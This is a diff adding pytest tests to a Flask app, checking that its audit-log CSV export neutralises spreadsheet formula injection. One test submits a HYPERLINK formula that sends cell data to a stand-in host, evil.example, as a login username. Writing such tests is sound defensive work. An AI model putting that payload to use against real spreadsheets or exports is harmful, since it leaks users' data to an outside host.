@@ -6,10 +6,13 @@ import csv
 import io
 from collections.abc import Callable
 
+import pytest
+from flask.testing import FlaskClient
+
 from app.models import User
 from app.services.accounts import users
 from tests.clock import CLOCK
-from tests.routes.conftest import Browser
+from tests.routes.conftest import Browser, csrf_token
 
 
 def test_audit_page_filters_by_entity_and_user(
@@ -46,3 +49,27 @@ def test_audit_export_is_a_csv_of_the_filtered_events(
     assert rows[0][:4] == ["id", "occurred_at", "actor_username", "action"]
     assert [r[3] for r in rows[1:]] == ["user.created"]
     assert rows[1][1].endswith("+00:00")
+
+
+def test_audit_export_never_hands_a_spreadsheet_a_formula(
+    signed_in: Callable[..., Browser], client: FlaskClient
+) -> None:
+    """A failed sign-in's username is attacker-chosen text; exported, it must stay text."""
+    attack = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    token = csrf_token(client)
+    client.post("/login", data={"username": attack, "password": "x", "csrf_token": token})
+    qa = signed_in("qa")
+    response = qa.client.get("/audit/export.csv")
+    cells = [c for row in csv.reader(io.StringIO(response.get_data(as_text=True))) for c in row]
+    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
+    assert any(c.startswith("'=hyperlink(") or c.startswith("'=HYPERLINK(") for c in cells)
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_a_cell_that_starts_a_formula_is_written_as_text(start: str) -> None:
+    from app.services.core.spreadsheet import csv_text, safe_cell
+
+    assert safe_cell(f"{start}SUM(A1:A9)") == f"'{start}SUM(A1:A9)"
+    assert safe_cell(-25) == -25  # a number stays a number
+    assert safe_cell("ASC-2611-01") == "ASC-2611-01"
+    assert csv_text(["a"], [[f"{start}1"]]).splitlines()[1].lstrip('"').startswith("'")
